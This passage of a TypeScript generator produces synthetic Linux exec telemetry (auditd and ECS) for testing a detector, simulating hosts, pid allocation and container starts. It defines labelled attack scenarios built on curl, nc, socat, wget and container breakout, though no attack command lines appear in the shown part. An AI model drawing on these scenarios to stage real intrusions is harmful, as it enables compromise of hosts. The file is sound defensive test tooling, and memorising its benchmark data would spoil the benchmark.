/**
 * Deterministic generator of Linux exec telemetry for the benchmark and the demo.
 *
 * It simulates hosts process by process (pid allocation with threads and forks eating pids, wrap-around at
 * pid_max, forks without exec, exec chains, execvp PATH searches that fail before they succeed) so that what
 * the renderers write has the shape of real fleets: the same parents, the same lineage gaps and the same
 * noise the detector meets in production. Attacks are a small share of otherwise ordinary activity.
 *
 * `toAuditdLines` writes auditd ENRICHED lines the way the kernel and auditd do (see
 * test/fixtures/samples/captured/exec-cases.auditd.log); `toEcsLines` writes one ECS process document per exec.
 * Same seed and options, same bytes: the demo files are checked against this output.
 *
 * Only documentation addresses (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) and example domains appear.
 */

// ---------------------------------------------------------------------------------------------------------
// Public shapes

/** The roles a fleet cycles through by default (`ScenarioOptions.roles`). */
export const HOST_ROLES = ["web", "app", "k8s"] as const;
/**
 * web: nginx + php-fpm; app: a node service behind nginx; k8s: kubelet, containerd and containers;
 * build: a CI agent running compiler jobs (make -j, gcc and its passes, git, tar), which forks so much that its
 * pids wrap around pid_max within minutes. `build` is opt-in (`roles`), so that the default fleets, and with
 * them the demo files and every seed's output, stay what they were.
 */
export type HostRole = (typeof HOST_ROLES)[number] | "build";
export const ALL_HOST_ROLES: readonly HostRole[] = [...HOST_ROLES, "build"];

export const ATTACK_KINDS = [
  "webshell-dns",
  "shm-curl",
  "busybox-nc",
  "exec-chain-socat",
  "python-wget",
  "container-breakout",
] as const;
export type AttackKind = (typeof ATTACK_KINDS)[number];

export interface ScenarioOptions {
  readonly seed: number;
  /** Successful exec events to generate (failed execve attempts come on top and decode as skipped). */
  readonly events: number;
  readonly hosts: number;
  /**
   * Approximate share of exec events that belong to attack chains (an attack is about six execs). When it
   * is above 0, every attack kind available on the fleet occurs at least once.
   */
  readonly attackShare: number;
  /** Roles cycled over the hosts; default web, app, k8s. */
  readonly roles?: readonly HostRole[];
  /** Containers per k8s host (default 2); ECS documents of their processes carry `container.id`. */
  readonly containersPerHost?: number;
  /** Restricts the attack kinds (default: every kind the fleet can host). */
  readonly attackKinds?: readonly AttackKind[];
  /** Number in the first host's name (`web-01`), so that two scenarios can share one stream. */
  readonly firstHost?: number;
  /** Epoch ms of the first event. */
  readonly startTime?: number;
  /** Mean time between two activities on the fleet (ms); default 3000 / hosts. */
  readonly activityGapMs?: number;
  /**
   * Share of hosts whose pid counter starts within a few thousand of pid_max (default none): they wrap around
   * early in the run and hand recycled pids to new processes while the old holders' records still exist.
   */
  readonly nearPidMax?: number;
  /**
   * Successful exec events of the hosts' earlier life, generated before the `events` of the window (default
   * none; no attacks among them). Between the two every host's pid counter goes round pid_max, back to where
   * it stood when its history began, and the clock moves on by `historyGapMs` (default 6 h): as if the hosts
   * had forked through their whole pid space meanwhile (those events are not generated). A lineage table that
   * saw the history holds records of earlier holders of the pids the window hands out, as a table does after
   * days of traffic; without a history every pid of the window is fresh.
   */
  readonly history?: number;
  readonly historyGapMs?: number;
}

export interface ContainerRef {
  readonly id: string;
  readonly image: string;
}

/** One execve as the kernel saw it. */
export interface ProcessExec {
  readonly host: string;
  /**
   * Ground truth, never rendered: the generator's identity of the process (unique over the scenario, given at
   * fork, kept across its execs), which the telemetry only shows as a pid that is recycled.
   */
  readonly proc: number;
  /**
   * The identity of the process's parent at the time of this exec (init has one too); undefined only when
   * the parent pid is no process the generator knows (never, today).
   */
  readonly parentProc: number | undefined;
  readonly container?: ContainerRef;
  readonly pid: number;
  readonly ppid: number;
  /** The image the kernel loaded (the interpreter for a script); for a failed execve, the caller's image. */
  readonly exe: string;
  /** The file name given to execve (PATH item 0): a symlink, a script, a relative path. */
  readonly path: string;
  /** A script's shebang interpreter as written in the script (PATH item 1). */
  readonly interpreter?: string;
  /** The dynamic loader the kernel opened (last PATH item); absent for static binaries. */
  readonly loader?: string;
  readonly args: readonly string[];
  readonly cwd: string;
  readonly uid: number;
  readonly euid: number;
  readonly user: string;
  readonly auid: number;
  readonly ses: number;
  readonly tty: string;
  /** Task name after the exec (for a failed execve, the caller's). */
  readonly comm: string;
  readonly time: number;
  /** The parent's image at the time (ECS `process.parent.executable`). */
  readonly parentExe?: string;
  /** An execvp PATH search that hit ENOENT: the kernel logs it, no image is loaded. */
  readonly failed?: true;
  /** For a failed execve: the caller's command line (what PROCTITLE shows). */
  readonly callerArgs?: readonly string[];
  readonly attack?: AttackKind;
}

/** PAM session records around a cron job or an ssh login (auditd only). */
export interface SessionRecord {
  readonly host: string;
  readonly time: number;
  readonly pid: number;
  readonly op: "open" | "close";
  readonly service: "cron" | "sshd";
  readonly uid: number;
  readonly ses: number;
  readonly addr?: string;
  readonly tty?: string;
}

/** Where an attack's network utility runs and the alert the rule must raise for it. */
export interface AttackInstance {
  readonly kind: AttackKind;
  readonly host: string;
  readonly container?: string;
  readonly pid: number;
  readonly time: number;
  readonly utility: string;
  readonly location: string;
  readonly locationKind: "script" | "ancestor" | "exec-chain" | "self";
}

export interface Scenario {
  readonly seed: number;
  readonly hosts: readonly string[];
  /** Time order (stable: a parent before its child in the same millisecond). */
  readonly execs: readonly ProcessExec[];
  readonly sessions: readonly SessionRecord[];
  readonly attacks: readonly AttackInstance[];
  /** Successful execs, i.e. the exec events a decoder must produce. */
  readonly events: number;
  /** Of those, the first ones (in `execs` order) that belong to the history (ScenarioOptions.history). */
  readonly historyEvents: number;
}

// ---------------------------------------------------------------------------------------------------------
// Seeded randomness

/** mulberry32: tiny, fast, and good enough to make telemetry look random; the same seed gives the same run. */
export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

class Rng {
  readonly #next: () => number;
  constructor(seed: number) {
    this.#next = mulberry32(seed);
  }
  float(): number {
    return this.#next();
  }
  int(min: number, max: number): number {
    return min + Math.floor(this.#next() * (max - min + 1));
  }
  chance(p: number): boolean {
    return this.#next() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.#next() * items.length)]!;
  }
  weighted<T>(items: readonly (readonly [T, number])[]): T {
    let total = 0;
    for (const [, w] of items) total += w;
    let r = this.#next() * total;
    for (const [item, w] of items) {
      r -= w;
      if (r < 0) return item;
    }
    return items[items.length - 1]![0];
  }
  hex(digits: number): string {
    let out = "";
    while (out.length < digits)
      out += Math.floor(this.#next() * 0x10000)
        .toString(16)
        .padStart(4, "0");
    return out.slice(0, digits);
  }
  exp(mean: number): number {
    return -Math.log(1 - this.#next()) * mean;
  }
  shuffle<T>(items: T[]): T[] {
    for (let i = items.length - 1; i > 0; i--) {
      const j = Math.floor(this.#next() * (i + 1));
      [items[i], items[j]] = [items[j]!, items[i]!];
    }
    return items;
  }
}

// ---------------------------------------------------------------------------------------------------------
// Users and binaries of a Debian 12 host

interface Account {
  readonly name: string;
  readonly gid: number;
  readonly group: string;
  readonly home: string;
}

const ACCOUNTS: ReadonlyMap<number, Account> = new Map([
  [0, { name: "root", gid: 0, group: "root", home: "/root" }],
  [33, { name: "www-data", gid: 33, group: "www-data", home: "/var/www" }],
  [42, { name: "_apt", gid: 65534, group: "nogroup", home: "/nonexistent" }],
  [1000, { name: "alice", gid: 1000, group: "alice", home: "/home/alice" }],
  [1001, { name: "bob", gid: 1001, group: "bob", home: "/home/bob" }],
  [1002, { name: "deploy", gid: 1002, group: "deploy", home: "/home/deploy" }],
  [996, { name: "buildkite-agent", gid: 996, group: "buildkite-agent", home: "/var/lib/buildkite-agent" }],
]);
/** The CI agent's account on build hosts: jobs run as it, in its home. */
const BUILD_UID = 996;
const account = (uid: number): Account => ACCOUNTS.get(uid)!;
const SSH_USERS = [1000, 1001, 1002] as const;
/** The kernel's "no login uid" (auid unset), which ENRICHED shows as "unset". */
const UNSET = 4294967295;

const GLIBC_LOADER = "/lib64/ld-linux-x86-64.so.2";
const STATIC = null;
const MUSL_LOADER = "/lib/ld-musl-x86_64.so.1";
/** runc 1.1 re-executes a sealed memfd copy of itself (CVE-2019-5736): `runc init` has no file on disk. */
const RUNC_MEMFD = "/memfd:runc_cloned:/proc/self/exe (deleted)";

interface Bin {
  readonly path: string;
  /** Resolved image when `path` is a symlink (`/usr/bin/python3` → `/usr/bin/python3.11`). */
  readonly exe?: string;
  readonly static?: true;
}

const BINARIES: Readonly<Record<string, Bin>> = {
  "apt-config": { path: "/usr/bin/apt-config" },
  "apt-get": { path: "/usr/bin/apt-get" },
  as: { path: "/usr/bin/as", exe: "/usr/bin/x86_64-linux-gnu-as" },
  base64: { path: "/usr/bin/base64" },
  busybox: { path: "/usr/bin/busybox", static: true },
  cat: { path: "/usr/bin/cat" },
  chmod: { path: "/usr/bin/chmod" },
  convert: { path: "/usr/bin/convert", exe: "/usr/bin/convert-im6.q16" },
  curl: { path: "/usr/bin/curl" },
  date: { path: "/usr/bin/date" },
  df: { path: "/usr/bin/df" },
  dig: { path: "/usr/bin/dig" },
  dircolors: { path: "/usr/bin/dircolors" },
  du: { path: "/usr/bin/du" },
  find: { path: "/usr/bin/find" },
  free: { path: "/usr/bin/free" },
  gcc: { path: "/usr/bin/gcc", exe: "/usr/bin/x86_64-linux-gnu-gcc-12" },
  git: { path: "/usr/bin/git" },
  go: { path: "/usr/local/go/bin/go", static: true },
  grep: { path: "/usr/bin/grep" },
  gzip: { path: "/usr/bin/gzip" },
  head: { path: "/usr/bin/head" },
  host: { path: "/usr/bin/host" },
  hostname: { path: "/usr/bin/hostname" },
  id: { path: "/usr/bin/id" },
  ip: { path: "/usr/bin/ip" },
  iptables: { path: "/usr/sbin/iptables", exe: "/usr/sbin/xtables-nft-multi" },
  journalctl: { path: "/usr/bin/journalctl" },
  less: { path: "/usr/bin/less" },
  logger: { path: "/usr/bin/logger" },
  make: { path: "/usr/bin/make" },
  mkdir: { path: "/usr/bin/mkdir" },
  ls: { path: "/usr/bin/ls" },
  mount: { path: "/usr/bin/mount" },
  nice: { path: "/usr/bin/nice" },
  nslookup: { path: "/usr/bin/nslookup" },
  ps: { path: "/usr/bin/ps" },
  python3: { path: "/usr/bin/python3", exe: "/usr/bin/python3.11" },
  rm: { path: "/usr/bin/rm" },
  "run-parts": { path: "/usr/bin/run-parts" },
  socat: { path: "/usr/bin/socat" },
  sort: { path: "/usr/bin/sort" },
  ss: { path: "/usr/bin/ss" },
  ssh: { path: "/usr/bin/ssh" },
  sudo: { path: "/usr/bin/sudo" },
  systemctl: { path: "/usr/bin/systemctl" },
  "systemd-run": { path: "/usr/bin/systemd-run" },
  tail: { path: "/usr/bin/tail" },
  tar: { path: "/usr/bin/tar" },
  top: { path: "/usr/bin/top" },
  tr: { path: "/usr/bin/tr" },
  uname: { path: "/usr/bin/uname" },
  uptime: { path: "/usr/bin/uptime" },
  varnishadm: { path: "/usr/bin/varnishadm" },
  vim: { path: "/usr/bin/vim", exe: "/usr/bin/vim.basic" },
  wc: { path: "/usr/bin/wc" },
  wget: { path: "/usr/bin/wget" },
  whoami: { path: "/usr/bin/whoami" },
};

/** Interpreters as a shebang names them → the image the kernel loads. */
const INTERPRETERS: Readonly<Record<string, string>> = {
  "/bin/sh": "/usr/bin/dash",
  "/bin/bash": "/usr/bin/bash",
  "/usr/bin/env": "/usr/bin/env",
  "/usr/bin/python3": "/usr/bin/python3.11",
};

/** systemd's PATH for services, and Debian's login PATH: execvp walks them in order. */
const SERVICE_PATH = ["/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin"] as const;
const USER_PATH = ["/usr/local/bin", "/usr/bin", "/bin", "/usr/local/games", "/usr/games"] as const;
const PYTHON_IMAGE_PATH = ["/usr/local/bin", "/usr/local/sbin", "/usr/sbin", "/usr/bin"] as const;

interface Image {
  readonly path: string;
  readonly exe: string;
  readonly args: readonly string[];
  readonly interpreter?: string;
  readonly loader?: string;
}

const bin = (name: string): Bin => {
  const found = BINARIES[name];
  if (found === undefined) throw new Error(`generator: unknown binary ${name}`);
  return found;
};

/** A command as a shell runs it: argv[0] as typed, the file found on PATH (shells stat, they do not probe). */
function run(name: string, ...args: string[]): Image {
  const b = bin(name);
  return image(b.path, b.exe ?? b.path, [name, ...args], b.static ? STATIC : GLIBC_LOADER);
}

/** `loader` STATIC (null) for a statically linked binary: the kernel opens no dynamic loader. */
function image(
  path: string,
  exe: string,
  args: readonly string[],
  loader: string | null = GLIBC_LOADER,
): Image {
  return loader === null ? { path, exe, args } : { path, exe, args, loader };
}

/** A script started through its shebang: the kernel runs `interpreter [arg] script args…`. */
function script(path: string, shebang: string, args: readonly string[] = [], exeOf = INTERPRETERS): Image {
  const [interpreter, interpreterArg] = shebang.split(" ") as [string, string | undefined];
  const exe = exeOf[interpreter] ?? interpreter;
  const argv =
    interpreterArg === undefined
      ? [interpreter, path, ...args]
      : [interpreter, interpreterArg, path, ...args];
  const loader = exe === "/bin/busybox" ? MUSL_LOADER : GLIBC_LOADER;
  return { path, exe, args: argv, interpreter, loader };
}

/** `/bin/sh -c COMMAND` as system(), popen(), cron and node's exec() start it. */
const shC = (argv0: string, command: string): Image =>
  image("/bin/sh", "/usr/bin/dash", [argv0, "-c", command]);

/** Inside an Alpine container every applet is busybox, linked against musl. */
const applet = (path: string, args: readonly string[]): Image =>
  image(path, "/bin/busybox", args, MUSL_LOADER);

const basename = (path: string): string => path.slice(path.lastIndexOf("/") + 1);

// ---------------------------------------------------------------------------------------------------------
// Process simulation

interface Proc {
  /** Identity (ProcessExec.proc): a pid is recycled, this never is. */
  readonly id: number;
  pid: number;
  ppid: number;
  exe: string;
  args: readonly string[];
  comm: string;
  cwd: string;
  uid: number;
  euid: number;
  auid: number;
  ses: number;
  tty: string;
  container: Container | undefined;
}

type ContainerApp = "node-api" | "redis" | "worker";

interface Container {
  readonly ref: ContainerRef;
  readonly app: ContainerApp;
  readonly workdir: string;
  shim: Proc;
  main: Proc | undefined;
}

const CONTAINER_IMAGES: Readonly<Record<ContainerApp, string>> = {
  "node-api": "registry.example.com/shop/api:1.14.2",
  redis: "docker.io/library/redis:7.2-alpine",
  worker: "registry.example.com/shop/worker:3.1.0",
};

class Host {
  readonly name: string;
  readonly role: HostRole;
  readonly containers: Container[] = [];
  readonly phpWorkers: Proc[] = [];
  readonly init: Proc;
  sshd: Proc | undefined;
  cron: Proc | undefined;
  node: Proc | undefined;
  kubelet: Proc | undefined;
  containerd: Proc | undefined;
  /** The CI agent of a build host (buildkite-agent start). */
  agent: Proc | undefined;
  /** Clock of the activity being generated. */
  now = 0;
  #lastPid: number;
  /** Where the pid counter stood when the host's generated life began (see goRound). */
  readonly #firstPid: number;
  /** The classic default: a busy host wraps around and hands old pids to new processes. */
  readonly #pidMax = 32768;
  readonly #live = new Map<number, Proc>();
  #sessions: number;
  readonly #gen: Fleet;

  constructor(gen: Fleet, name: string, role: HostRole, nearPidMax?: number) {
    this.#gen = gen;
    this.name = name;
    this.role = role;
    // Uptime: hosts booted long before the window have handed out most of their pid space already; a build
    // host, which forks by the ten thousand an hour, is past the middle of it (the draw is the same for the
    // other roles as it always was).
    this.#lastPid = role === "build" ? gen.rng.int(16000, 30000) : gen.rng.int(900, 30000);
    this.#sessions = gen.rng.int(3, 400);
    // Drawn only when asked for, so that scenarios without the option consume the generator as before.
    if (nearPidMax !== undefined && gen.rng.chance(nearPidMax)) {
      this.#lastPid = this.#pidMax - gen.rng.int(300, 3000);
    }
    this.#firstPid = this.#lastPid;
    this.init = {
      id: gen.newProcId(),
      pid: 1,
      ppid: 0,
      exe: "/usr/lib/systemd/systemd",
      args: ["/sbin/init"],
      comm: "systemd",
      cwd: "/",
      uid: 0,
      euid: 0,
      auid: UNSET,
      ses: UNSET,
      tty: "(none)",
      container: undefined,
    };
    this.#live.set(1, this.init);
  }

  /**
   * Between history and window (ScenarioOptions.history): the counter has gone round pid_max and stands a
   * little before where the history began, so that the window hands out the pids the history used.
   */
  goRound(): void {
    this.#lastPid = Math.max(300, this.#firstPid - this.#gen.rng.int(0, 50));
  }

  nextSession(): number {
    return ++this.#sessions;
  }

  /** Milliseconds pass between two execs of one activity: a child never precedes its parent. */
  wait(min: number, max: number): void {
    this.now += this.#gen.rng.int(min, max);
  }

  #allocPid(): number {
    const rng = this.#gen.rng;
    for (;;) {
      // Threads (node, kubelet, containerd, php) and forks that never exec take pids too: consecutive execs are
      // rarely consecutive pids, and a busy host goes round pid_max within the hour.
      this.#lastPid += 1 + (rng.chance(0.5) ? rng.int(1, 30) : 0);
      if (this.#lastPid >= this.#pidMax) this.#lastPid = 300 + rng.int(0, 40); // RESERVED_PIDS
      if (!this.#live.has(this.#lastPid)) return this.#lastPid;
    }
  }

  /** fork() without exec: a php-fpm worker, cron's job child, sshd's session child. No event. */
  fork(parent: Proc, changes: Partial<Omit<Proc, "pid" | "id">> = {}): Proc {
    const pid = this.#allocPid();
    const child: Proc = { ...parent, ppid: parent.pid, ...changes, pid, id: this.#gen.newProcId() };
    this.#live.set(child.pid, child);
    this.#gen.transient.push(child);
    return child;
  }

  /**
   * Processes that fork and exit without an exec (a configure script's subshells and command substitutions,
   * make's $(shell …)): no event, only pids gone by. Each is a process of its own, so it takes an identity.
   */
  burn(count: number): void {
    for (let i = 0; i < count; i++) {
      this.#allocPid();
      this.#gen.newProcId();
    }
  }

  exec(
    proc: Proc,
    img: Image,
    options: { attack?: AttackKind; cwd?: string; uid?: number; euid?: number } = {},
  ): Proc {
    this.wait(1, 4);
    if (options.cwd !== undefined) proc.cwd = options.cwd;
    if (options.uid !== undefined) proc.uid = options.uid;
    proc.euid = options.euid ?? proc.uid;
    proc.exe = img.exe;
    proc.args = img.args;
    // The kernel names the task after the file handed to execve, cut to TASK_COMM_LEN - 1.
    proc.comm = basename(img.path).slice(0, 15);
    this.#gen.record(this, proc, img, options.attack);
    return proc;
  }

  spawn(
    parent: Proc,
    img: Image,
    options: { attack?: AttackKind; cwd?: string; uid?: number; euid?: number } = {},
  ): Proc {
    return this.exec(this.fork(parent), img, options);
  }

  /** execvp(): every PATH entry before the one that holds the file fails with ENOENT, each one logged. */
  execvp(
    proc: Proc,
    name: string,
    args: readonly string[],
    searchPath: readonly string[],
    found: Image,
    attack?: AttackKind,
  ): Proc {
    const dir = found.path.slice(0, found.path.lastIndexOf("/"));
    for (const entry of searchPath) {
      if (entry === dir) break;
      this.wait(0, 1);
      this.#gen.recordFailure(this, proc, `${entry}/${name}`, args);
    }
    return this.exec(proc, { ...found, args }, attack === undefined ? {} : { attack });
  }

  exit(proc: Proc): void {
    if (proc.pid !== 1) this.#live.delete(proc.pid);
  }

  /** The process that holds the parent pid now: the parent (the simulation reparents explicitly). */
  parentOf(proc: Proc): Proc | undefined {
    return this.#live.get(proc.ppid);
  }

  /** A long-lived process: not reaped at the end of the activity that started it. */
  keep(proc: Proc): Proc {
    this.#gen.keep(proc);
    return proc;
  }
}

// ---------------------------------------------------------------------------------------------------------
// The generator: hosts, activities, attacks

type MutableExec = { -readonly [K in keyof ProcessExec]: ProcessExec[K] };

class Fleet {
  readonly rng: Rng;
  readonly execs: ProcessExec[] = [];
  readonly sessions: SessionRecord[] = [];
  readonly attacks: { instance: AttackInstance; index: number }[] = [];
  /** Processes created by the current activity; reaped when it ends unless kept. */
  transient: Proc[] = [];
  #kept = new Set<Proc>();
  successes = 0;
  #procs = 0;

  constructor(seed: number) {
    this.rng = new Rng(seed);
  }

  /** A new process identity (ProcessExec.proc): a counter, no randomness consumed. */
  newProcId(): number {
    return ++this.#procs;
  }

  keep(proc: Proc): void {
    this.#kept.add(proc);
  }

  endActivity(host: Host): void {
    for (const proc of this.transient) if (!this.#kept.has(proc)) host.exit(proc);
    this.transient = [];
  }

  record(host: Host, proc: Proc, img: Image, attack: AttackKind | undefined): void {
    const parent = host.parentOf(proc);
    const e: MutableExec = {
      host: host.name,
      proc: proc.id,
      parentProc: parent?.id,
      pid: proc.pid,
      ppid: proc.ppid,
      exe: img.exe,
      path: img.path,
      args: img.args,
      cwd: proc.cwd,
      uid: proc.uid,
      euid: proc.euid,
      user: account(proc.uid).name,
      auid: proc.auid,
      ses: proc.ses,
      tty: proc.tty,
      comm: proc.comm,
      time: host.now,
    };
    if (proc.container !== undefined) e.container = proc.container.ref;
    if (img.interpreter !== undefined) e.interpreter = img.interpreter;
    if (img.loader !== undefined) e.loader = img.loader;
    if (parent !== undefined) e.parentExe = parent.exe;
    if (attack !== undefined) e.attack = attack;
    this.execs.push(e);
    this.successes++;
  }

  recordFailure(host: Host, proc: Proc, path: string, args: readonly string[]): void {
    const e: MutableExec = {
      host: host.name,
      proc: proc.id,
      parentProc: host.parentOf(proc)?.id,
      pid: proc.pid,
      ppid: proc.ppid,
      exe: proc.exe,
      path,
      args,
      cwd: proc.cwd,
      uid: proc.uid,
      euid: proc.euid,
      user: account(proc.uid).name,
      auid: proc.auid,
      ses: proc.ses,
      tty: proc.tty,
      comm: proc.comm,
      time: host.now,
      failed: true,
      callerArgs: proc.args,
    };
    if (proc.container !== undefined) e.container = proc.container.ref;
    this.execs.push(e);
  }

  session(
    host: Host,
    proc: Proc,
    op: SessionRecord["op"],
    service: SessionRecord["service"],
    addr?: string,
  ): void {
    host.wait(1, 3);
    const record: { -readonly [K in keyof SessionRecord]: SessionRecord[K] } = {
      host: host.name,
      time: host.now,
      pid: proc.pid,
      op,
      service,
      uid: proc.uid,
      ses: proc.ses,
    };
    if (addr !== undefined) record.addr = addr;
    if (service === "sshd" && proc.tty !== "(none)") record.tty = proc.tty;
    this.sessions.push(record);
  }

  attack(instance: AttackInstance): void {
    this.attacks.push({ instance, index: this.execs.length - 1 });
  }
}

// ---------------------------------------------------------------------------------------------------------
// Boot: the long-lived processes every later activity hangs off

function boot(g: Fleet, h: Host, containers: number): void {
  const rng = g.rng;
  h.spawn(h.init, image("/usr/sbin/sshd", "/usr/sbin/sshd", ["/usr/sbin/sshd", "-t"]));
  h.sshd = h.keep(h.spawn(h.init, image("/usr/sbin/sshd", "/usr/sbin/sshd", ["/usr/sbin/sshd", "-D"])));
  h.cron = h.keep(h.spawn(h.init, image("/usr/sbin/cron", "/usr/sbin/cron", ["/usr/sbin/cron", "-f"])));
  if (h.role === "web" || h.role === "app") {
    const nginxArgs = ["-g", "daemon on; master_process on;"];
    h.spawn(
      h.init,
      image("/usr/sbin/nginx", "/usr/sbin/nginx", ["/usr/sbin/nginx", "-t", "-q", ...nginxArgs]),
    );
    const nginx = h.spawn(
      h.init,
      image("/usr/sbin/nginx", "/usr/sbin/nginx", ["/usr/sbin/nginx", ...nginxArgs]),
    );
    // nginx daemonizes: the master is a fork, the workers are forks of it; none of them exec.
    const master = h.keep(h.fork(nginx, { ppid: 1 }));
    for (let i = 0; i < 2; i++) h.keep(h.fork(master, { uid: 33, euid: 33 }));
  }
  if (h.role === "web") {
    const fpm = h.keep(
      h.spawn(
        h.init,
        image("/usr/sbin/php-fpm8.2", "/usr/sbin/php-fpm8.2", [
          "/usr/sbin/php-fpm8.2",
          "--nodaemonize",
          "--fpm-config",
          "/etc/php/8.2/fpm/php-fpm.conf",
        ]),
      ),
    );
    h.spawn(
      h.init,
      script("/usr/lib/php/php-fpm-socket-helper", "/bin/sh", [
        "install",
        "/run/php/php-fpm.sock",
        "/etc/php/8.2/fpm/pool.d/www.conf",
        "82",
      ]),
    );
    for (let i = 0; i < 5; i++) h.phpWorkers.push(h.keep(h.fork(fpm, { uid: 33, euid: 33 })));
  }
  if (h.role === "app") {
    h.node = h.keep(
      h.spawn(h.init, image("/usr/bin/node", "/usr/bin/node", ["/usr/bin/node", "/srv/app/dist/server.js"]), {
        uid: 1002,
        cwd: "/srv/app",
      }),
    );
  }
  if (h.role === "build") {
    h.agent = h.keep(
      h.spawn(
        h.init,
        image("/usr/bin/buildkite-agent", "/usr/bin/buildkite-agent", [
          "/usr/bin/buildkite-agent",
          "start",
          "--config",
          "/etc/buildkite-agent/buildkite-agent.cfg",
        ]),
        { uid: BUILD_UID, cwd: account(BUILD_UID).home },
      ),
    );
  }
  if (h.role === "k8s") {
    h.containerd = h.keep(
      h.spawn(h.init, image("/usr/bin/containerd", "/usr/bin/containerd", ["/usr/bin/containerd"])),
    );
    h.kubelet = h.keep(
      h.spawn(
        h.init,
        image(
          "/usr/bin/kubelet",
          "/usr/bin/kubelet",
          [
            "/usr/bin/kubelet",
            "--bootstrap-kubeconfig=/etc/kubernetes/bootstrap-kubelet.conf",
            "--kubeconfig=/etc/kubernetes/kubelet.conf",
            "--config=/var/lib/kubelet/config.yaml",
            "--container-runtime-endpoint=unix:///run/containerd/containerd.sock",
            "--pod-infra-container-image=registry.k8s.io/pause:3.9",
          ],
          STATIC,
        ),
      ),
    );
    const apps: ContainerApp[] = ["node-api", "redis", "worker"];
    for (let i = 0; i < containers; i++) {
      // The first container of a node is always the API: the breakout scenario starts from its shell-outs.
      const app = i === 0 ? "node-api" : rng.pick(apps);
      const id = rng.hex(64);
      const shim = h.keep(
        h.spawn(
          h.containerd,
          image(
            "/usr/bin/containerd-shim-runc-v2",
            "/usr/bin/containerd-shim-runc-v2",
            [
              "/usr/bin/containerd-shim-runc-v2",
              "-namespace",
              "k8s.io",
              "-id",
              id,
              "-address",
              "/run/containerd/containerd.sock",
            ],
            STATIC,
          ),
        ),
      );
      shim.ppid = 1; // the shim daemonizes and is reparented to init
      const container: Container = {
        ref: { id, image: CONTAINER_IMAGES[app] },
        app,
        workdir: app === "redis" ? "/data" : "/app",
        shim,
        main: undefined,
      };
      h.containers.push(container);
      startContainer(h, container);
    }
  }
  g.endActivity(h);
}

const runcArgs = (id: string, command: string[]): string[] => [
  "runc",
  "--root",
  "/run/containerd/runc/k8s.io",
  "--log",
  `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${id}/log.json`,
  "--log-format",
  "json",
  ...command,
];

/**
 * runc → `runc init` from its memfd clone → the init is cloned again (CLONE_PARENT, so its parent is runc) and
 * that clone, which never exec'd before, execs the container's process. Returns the clone.
 */
function runcInit(h: Host, c: Container, command: string[]): Proc {
  const runc = h.spawn(c.shim, image("/usr/bin/runc", "/usr/bin/runc", runcArgs(c.ref.id, command)));
  const init = h.spawn(runc, image("/proc/self/exe", RUNC_MEMFD, ["runc", "init"]));
  return h.fork(init, { ppid: runc.pid, container: c, cwd: c.workdir, uid: 0, euid: 0 });
}

function startContainer(h: Host, c: Container): void {
  const bundle = `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${c.ref.id}`;
  const proc = runcInit(h, c, ["create", "--bundle", bundle, "--pid-file", `${bundle}/init.pid`, c.ref.id]);
  const entrypoint = (args: string[]) =>
    script("/usr/local/bin/docker-entrypoint.sh", "/bin/sh", args, { "/bin/sh": "/bin/busybox" });
  if (c.app === "node-api") {
    h.exec(proc, entrypoint(["node", "server.js"]));
    // `exec "$@"`: the entrypoint replaces itself with the application (an exec chain).
    h.exec(proc, image("/usr/local/bin/node", "/usr/local/bin/node", ["node", "server.js"], MUSL_LOADER));
  } else if (c.app === "redis") {
    h.exec(proc, entrypoint(["redis-server"]));
    h.exec(
      proc,
      image("/usr/local/bin/redis-server", "/usr/local/bin/redis-server", ["redis-server"], MUSL_LOADER),
    );
  } else {
    h.exec(
      proc,
      image("/usr/local/bin/python", "/usr/local/bin/python3.12", [
        "python",
        "-m",
        "celery",
        "-A",
        "app",
        "worker",
        "--loglevel=INFO",
      ]),
    );
  }
  c.main = h.keep(proc);
  proc.ppid = c.shim.pid; // runc exits; the shim is the container init's subreaper
}

// ---------------------------------------------------------------------------------------------------------
// Background activities

interface Shell {
  readonly shell: Proc;
  readonly user: number;
  close(): void;
}

/** sshd re-execs itself for the connection, PAM opens the session, the user's login shell starts. */
function openShell(g: Fleet, h: Host, user: number): Shell {
  const rng = g.rng;
  const addr = `192.0.2.${rng.int(10, 250)}`;
  const priv = h.spawn(h.sshd!, image("/usr/sbin/sshd", "/usr/sbin/sshd", ["/usr/sbin/sshd", "-D", "-R"]));
  const ses = h.nextSession();
  const home = account(user).home;
  const child = h.fork(priv, {
    uid: user,
    euid: user,
    auid: user,
    ses,
    tty: `pts${rng.int(0, 3)}`,
    cwd: home,
  });
  g.session(h, child, "open", "sshd", addr);
  const shell = h.spawn(child, image("/bin/bash", "/usr/bin/bash", ["-bash"]));
  h.spawn(shell, script("/usr/bin/lesspipe", "/bin/sh"));
  h.spawn(shell, run("dircolors", "-b"));
  return { shell, user, close: () => g.session(h, child, "close", "sshd", addr) };
}

type Command = (g: Fleet, h: Host, s: Shell) => void;

const simple =
  (name: string, ...args: string[]): Command =>
  (_g, h, s) => {
    h.spawn(s.shell, run(name, ...args));
  };

const INTERACTIVE: readonly (readonly [Command, number])[] = [
  [simple("ls", "-la"), 6],
  [simple("ls"), 4],
  [simple("git", "status"), 4],
  [simple("git", "log", "--oneline", "-10"), 2],
  [simple("git", "diff", "--stat"), 2],
  [simple("ps", "aux"), 2],
  [simple("cat", "/etc/os-release"), 1],
  [simple("df", "-h"), 2],
  [simple("free", "-m"), 1],
  [simple("uptime"), 1],
  [simple("whoami"), 1],
  [simple("ss", "-tlnp"), 1],
  [simple("ip", "-br", "addr"), 1],
  [simple("tail", "-n", "200", "/var/log/nginx/access.log"), 2],
  [simple("grep", "-rn", "connection refused", "/var/log/nginx/error.log"), 2],
  [simple("du", "-sh", "/var/log"), 1],
  [simple("vim", "README.md"), 2],
  [simple("less", "/var/log/syslog"), 1],
  [simple("top", "-bn1"), 1],
  [simple("find", ".", "-name", "*.ts", "-newer", "package.json"), 1],
  // Legitimate network tools from clean paths: the rule must stay quiet.
  [simple("curl", "-sI", "https://www.example.com/"), 1],
  [simple("dig", "+short", "example.org"), 1],
